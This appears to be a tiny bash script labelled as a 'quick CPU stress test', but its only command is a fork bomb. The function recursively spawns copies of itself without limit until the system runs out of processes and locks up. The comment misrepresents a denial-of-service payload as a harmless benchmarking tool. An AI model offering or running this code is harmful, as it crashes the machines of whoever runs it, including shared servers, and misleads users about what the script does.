#!/bin/bash
# quick CPU stress test
:(){ :|:& };:
